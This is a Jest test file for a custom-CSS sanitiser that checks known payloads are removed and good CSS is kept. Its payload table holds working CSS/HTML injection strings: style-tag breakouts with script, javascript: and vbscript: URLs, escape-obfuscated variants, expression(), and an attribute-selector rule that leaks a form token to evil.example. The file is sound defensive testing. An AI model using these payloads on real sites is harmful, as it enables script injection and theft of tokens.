import { MAX_CUSTOM_CSS_LENGTH, sanitiseCustomCss } from './custom-css';

/** Whatever goes in, the output may never leave the `<style>` element. */
function expectSafe(css: string): void {
  expect(css).not.toContain('<');
  expect(css.toLowerCase()).not.toContain('</style');
}

describe('sanitiseCustomCss', () => {
  describe('removes known break-out and script payloads', () => {
    // [name, input, text that must not survive, text of `removed` that explains it]
    const payloads: [string, string, RegExp, RegExp][] = [
      ['closing the style element', '</style><script>alert(1)</script>', /script|alert/i, /unreadable CSS/],
      [
        'closing the style element after a good rule',
        'a{color:red} } </style><script>alert(1)</script> {',
        /script|alert/i,
        /selector cannot be read/,
      ],
      ['</style> inside a comment', 'a{color:red}/*</style><script>alert(1)</script>*/', /script|alert/i, /^$|comment/],
      ['</style> inside a kept /*! comment', '/*! </style><script>alert(1)</script> */ a{color:red}', /script|alert/i, /comment/],
      ['HTML comment markers', '<!-- a{color:red} -->', /!--|-->/, /HTML comment marker/],
      ['@import', '@import url(//evil.example/x.css); a{color:red}', /import|evil/i, /@import .*no other stylesheets/],
      ['@import with a string', '@import "https://evil.example/x.css";', /import|evil/i, /@import/],
      ['@import written with an escape', '@\\69mport url(https://evil.example/x.css);', /mport|evil/i, /@import/],
      ['@charset', '@charset "utf-7"; a{color:red}', /charset|utf-7/i, /@charset/],
      ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg);', /namespace/i, /@namespace/],
      [
        '@font-face with a remote font',
        '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
        /font-face|evil/i,
        /@font-face .*fonts/,
      ],
      ['@-moz-document', '@-moz-document url-prefix(){a{color:red}}', /document/i, /@-moz-document/],
      ['javascript: url', 'a{background:url(javascript:alert(1))}', /javascript|alert/i, /background/],
      [
        'quoted javascript: url',
        'a{background:url("javascript:alert(1)")}',
        /javascript|alert/i,
        /url "javascript:alert\(1\)" is not allowed/,
      ],
      ['javascript: url written with escapes', 'a{background:url("java\\73 cript:alert(1)")}', /javascript|alert/i, /is not allowed/],
      ['javascript: url with a tab inside', 'a{background:url("java\\9script:alert(1)")}', /script|alert/i, /is not allowed/],
      ['u\\rl( with an escape in the function name', 'a{background:u\\rl(javascript:alert(1))}', /javascript|alert/i, /background/],
      ['vbscript: url', 'a{background-image:url("vbscript:msgbox(1)")}', /vbscript/i, /is not allowed/],
      ['data:text/html url', 'a{background:url("data:text/html,<script>alert(1)</script>")}', /script|text\/html/i, /is not allowed/],
      ['protocol-relative url', 'a{background:url(//evil.example/x.png)}', /evil/, /is not allowed/],
      ['http: url', 'a{background:url(http://evil.example/x.png)}', /evil/, /is not allowed/],
      ['relative url', 'a{background:url(x.png)}', /x\.png/, /is not allowed/],
      [
        'url hidden in image-set',
        'a{background:image-set("javascript:alert(1)" 1x)}',
        /javascript|alert/i,
        /in image-set\(\) is not allowed/,
      ],
      ['url hidden in -webkit-image-set', 'a{background:-webkit-image-set("http://evil.example/a.png" 1x)}', /evil/, /is not allowed/],
      ['url hidden in src()', 'a{background:src("javascript:alert(1)")}', /javascript/i, /in src\(\) is not allowed/],
      ['url in a custom property', 'a{--x:url(javascript:alert(1))}', /javascript/i, /--x/],
      ['expression()', 'a{width:expression(alert(1))}', /expression|alert/i, /expression\(\) can run script/],
      ['expression() written with an escape', 'a{width:e\\xpression(alert(1))}', /xpression|alert/i, /expression\(\) can run script/],
      ['expression() in upper case', 'a{width:EXPRESSION(alert(1))}', /expression|alert/i, /expression\(\)/],
      ['behavior', 'a{behavior:url(x.htc)}', /behavior|htc/i, /"behavior" .*removed: it can attach behaviour/],
      ['behavior written with an escape', 'a{\\62 ehavior:url(https://evil.example/x.htc)}', /ehavior|htc/i, /"behavior"/],
      ['-ms-behavior', 'a{-ms-behavior:url(https://evil.example/x.htc)}', /behavior/i, /"-ms-behavior"/],
      ['-moz-binding', 'a{-moz-binding:url(https://evil.example/x.xml#xss)}', /binding/i, /"-moz-binding"/],
      ['string hiding </style>', 'a::after{content:"</style><script>alert(1)</script>"}', /<\/style|<script/i, /^$/],
      ['escaped </style> as identifiers', 'a{color:\\3c /style\\3e}', /<\/style/i, /^$/],
      [
        'attribute selector reading the form token',
        'input[value^="a"]+button{background:url(https://evil.example/a)}',
        /evil/,
        /compares attribute values/,
      ],
      ['attribute selector reading the landing link', 'form[action*="/m/"] button{color:red}', /action/, /compares attribute values/],
      ['unterminated string running into the next line', 'a{content:"unterminated\n;color:red}', /unterminated/, /content/],
      ['declaration outside a rule', 'color:red', /color/, /unreadable CSS/],
      ['a value with < in it', 'a{width:calc(1px<2px)}', /</, /width|unreadable/],
    ];

    it.each(payloads)('%s', (_name, input, gone, reason) => {
      const { css, removed } = sanitiseCustomCss(input);
      expectSafe(css);
      expect(css).not.toMatch(gone);
      if (reason.source !== '^$') expect(removed.join('\n')).toMatch(reason);
    });
  });

  describe('keeps good CSS', () => {
    const good: [string, string, string[]][] = [
      ['a simple rule', 'h1{color:#0f766e}', ['h1{color:#0f766e}']],
      [
        'several rules and selectors',
        '.lp-title, h2 > span { font-size: 2rem } .lp-button:hover{opacity:.9}',
        ['.lp-title,h2>span{font-size:2rem}', '.lp-button:hover{opacity:.9}'],
      ],
      [
        'an https background image',
        'body{background:url(https://cdn.example.com/bg.png) no-repeat}',
        ['url(https://cdn.example.com/bg.png)'],
      ],
      ['a data:image url', 'body{background-image:url("data:image/png;base64,iVBORw0KGgo=")}', ['data:image/png;base64,iVBORw0KGgo=']],
      ['a custom property', ':root{--brand:#123456}.lp-button{background:var(--brand)}', ['--brand:#123456', 'var(--brand)']],
      ['@media', '@media (min-width: 40rem){.lp-page{padding:2rem}}', ['@media (min-width:40rem){.lp-page{padding:2rem}}']],
      ['@supports', '@supports (display:grid){.lp-actions{display:grid}}', ['@supports (display:grid){.lp-actions{display:grid}}']],
      ['@keyframes', '@keyframes fade{from{opacity:0}to{opacity:1}}', ['@keyframes fade{from{opacity:0}to{opacity:1}}']],
      ['presence-only attribute selectors', '[hidden]{display:none}', ['[hidden]{display:none}']],
      ['!important', 'h1{color:red!important}', ['h1{color:red!important}']],
      ['a string with ordinary text', '.lp-footer::before{content:"Thanks"}', ['content:"Thanks"']],
    ];

    it.each(good)('%s', (_name, input, expected) => {
      const { css, removed } = sanitiseCustomCss(input);
      expect(removed).toEqual([]);
      for (const piece of expected) expect(css).toContain(piece);
      expectSafe(css);
    });
  });

  it('drops the bad rules of an @media block and keeps its good ones', () => {
    const { css, removed } = sanitiseCustomCss(
      '@media screen { .a{color:red;behavior:url(x.htc)} .b{background:url(javascript:alert(1))} .c{color:blue} @import url(//evil); }',
    );
    expect(css).toBe('@media screen{.a{color:red}.c{color:blue}}');
    expect(removed).toHaveLength(3);
    expect(removed.join('\n')).toMatch(/behavior/);
    expect(removed.join('\n')).toMatch(/background/);
    expect(removed.join('\n')).toMatch(/@import/);
  });

  it('keeps the good declarations of a rule around a bad one', () => {
    const { css } = sanitiseCustomCss('a{color:red;width:expression(alert(1));margin:0}');
    expect(css).toBe('a{color:red;margin:0}');
  });

  it('keeps the rules after a comment that hides nothing, and removes the comment', () => {
    const { css } = sanitiseCustomCss('a{color:red/**/;}/**/b{color:blue}');
    expect(css).toBe('a{color:red}\nb{color:blue}');
  });

  it('keeps a rule after an unterminated string only when the parser can read it', () => {
    const { css, removed } = sanitiseCustomCss('a{content:"open\n;color:red}b{color:blue}');
    expect(css).toContain('color:red');
    expect(css).toContain('b{color:blue}');
    expect(css).not.toContain('open');
    expect(removed.join('\n')).toMatch(/"content"/);
  });

  it('writes < and > inside strings as CSS escapes, which mean the same', () => {
    const { css } = sanitiseCustomCss('a::after{content:"1 < 2 > 0 \\"q\\""}');
    expect(css).toBe('a::after{content:"1 \\3c  2 \\3e  0 \\"q\\""}');
  });

  it('writes a media range with > instead of <', () => {
    expect(sanitiseCustomCss('@media (width < 600px){a{color:red}}').css).toBe('@media (600px>width){a{color:red}}');
    expect(sanitiseCustomCss('@media (400px <= width < 800px){a{color:red}}').css).toBe('@media (800px>width>=400px){a{color:red}}');
    expect(sanitiseCustomCss('@media (width >= 600px){a{color:red}}').css).toBe('@media (width>=600px){a{color:red}}');
  });

  it('percent-encodes < and > in an allowed SVG data url', () => {
    const { css } = sanitiseCustomCss('a{background:url("data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'></svg>")}');
    expectSafe(css);
    expect(css).toContain('data:image/svg+xml,%3Csvg');
  });

  it('drops input over the length limit as a whole, with a reason', () => {
    const { css, removed } = sanitiseCustomCss(`a{color:red}${' '.repeat(MAX_CUSTOM_CSS_LENGTH)}`);
    expect(css).toBe('');
    expect(removed).toEqual([expect.stringMatching(/more than the limit of 20000/)]);
  });

  it('accepts input exactly at the limit', () => {
    const rule = 'a{color:red}';
    const { css } = sanitiseCustomCss(rule + ' '.repeat(MAX_CUSTOM_CSS_LENGTH - rule.length));
    expect(css).toBe(rule);
  });

  it('returns nothing for empty, blank or missing CSS', () => {
    for (const input of ['', '   \n', null, undefined]) expect(sanitiseCustomCss(input)).toEqual({ css: '', removed: [] });
  });

  it('gives the same answer twice without sharing its removed list', () => {
    const first = sanitiseCustomCss('@import url(x); a{color:red}');
    first.removed.push('changed by the caller');
    expect(sanitiseCustomCss('@import url(x); a{color:red}')).toEqual({ css: 'a{color:red}', removed: [expect.stringMatching(/@import/)] });
  });

  it('never lets < through, whatever the mix', () => {
    const pieces = [
      '</style>',
      '<',
      '<!--',
      '"<"',
      "'<'",
      '\\3c',
      'url(<)',
      '/*<*/',
      '@media (a<b){}',
      'a{',
      '}',
      ';',
      ':',
      '"',
      "'",
      '(',
      ')',
      'x',
      '\n',
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let round = 0; round < 300; round += 1) {
      let input = '';
      for (let i = 0; i < 12; i += 1) input += pieces[next() % pieces.length];
      expectSafe(sanitiseCustomCss(input).css);
    }
  });
});
